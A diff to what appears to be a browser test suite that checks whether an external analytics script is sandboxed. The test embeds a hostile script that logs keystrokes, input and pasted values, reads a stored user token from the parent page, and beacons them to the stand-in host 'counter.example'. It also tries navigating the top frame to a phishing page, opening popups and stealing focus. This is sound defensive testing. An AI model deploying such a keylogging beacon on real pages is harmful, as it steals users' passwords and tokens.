@@ -68,8 +68,11 @@ test('an analytics script with an external source runs, with its attributes, bes
 
 /** Tries each way to a password or token that a script on the page itself would have. */
 const LISTENS = `
-
-  const send = (text) => { new Image().src = 'https://counter.example/beacon?' + encodeURIComponent(text); };
+  const send = (text) => {
+    const image = new Image();
+    image.src = 'https://counter.example/beacon?' + encodeURIComponent(text);
+    return image;
+  };
   const listen = (target, name) => {
     for (const type of ['keydown', 'keypress', 'input', 'change', 'paste'])
       target.addEventListener(type, (event) => send(name + ':' + (event.key ?? '') + (event.target.value ?? '')), true);
@@ -82,11 +85,13 @@ const LISTENS = `
   try { send('token:' + parent.localStorage.getItem('douku:user')); } catch { send('refused:storage'); }
   try { top.location = '/analytics/phishing'; } catch { send('refused:navigation'); }
   try { if (window.open('/login') === null) send('refused:popup'); } catch { send('refused:popup'); }
-  send('started');`;
+  const started = send('started');`;
+/** Waits until the beacon was sent: the page closes the frame as soon as it takes the focus. */
 const TAKES_FOCUS = `
   const input = document.createElement('input');
   document.documentElement.append(input);
-  setInterval(() => { window.focus(); input.focus(); }, 5);`;
+  const takeFocus = () => setInterval(() => { window.focus(); input.focus(); }, 5);
+  started.onload = started.onerror = takeFocus;`;
 
 /** The frame comes after everything else on the page; a busy machine takes long for both. */
 const FRAME_LIMIT = { timeout: 90_000 };
